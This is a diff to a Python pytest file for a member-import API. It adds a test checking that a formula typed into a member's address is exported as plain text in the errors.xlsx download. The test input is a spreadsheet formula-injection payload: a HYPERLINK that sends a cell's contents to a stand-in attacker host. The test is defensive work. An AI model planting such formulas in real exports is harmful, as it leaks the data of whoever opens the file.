@@ -3,6 +3,7 @@ row; an import that cannot be read ends failed with its reason; no upload outliv
 
 from __future__ import annotations
 
+import io
 import stat
 import uuid
 from collections.abc import AsyncIterator
@@ -11,7 +12,7 @@ from pathlib import Path
 
 import httpx
 import pytest
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 from temporalio.client import Client
 
 from api.app import create_app
@@ -167,3 +168,19 @@ async def test_a_file_the_reader_cannot_hold_fails_the_import_at_once_with_its_r
     ]
     assert attempts == [1, 1]  # prepare_import once, then finish_import
     assert uploads(small) == before
+
+
+async def test_a_formula_in_a_members_address_is_text_in_errors_xlsx(
+    api: httpx.AsyncClient, tokens: dict[str, str], tmp_path: Path
+) -> None:
+    evil = '=HYPERLINK("http://evil.example/?d="&B3,"x")'
+    rows = list(member_rows(2, seed=86))
+    rows[0][HEADERS.index("工作单位详细地址")] = evil  # too few Chinese characters: a rejected row
+    body = await imported(api, tokens[CLERK], ORG, write_csv(tmp_path / "m.csv", rows))
+    r = await api.get(f"/imports/{body['id']}/errors.xlsx", headers=auth(tokens[CLERK]))
+    assert r.status_code == 200 and r.headers["x-content-type-options"] == "nosniff"
+    assert r.headers["content-disposition"].startswith("attachment")
+    ws = load_workbook(io.BytesIO(r.content)).active
+    assert ws is not None
+    cell = ws.cell(row=2, column=HEADERS.index("工作单位详细地址") + 1)
+    assert (cell.value, cell.data_type) == (evil, "s")
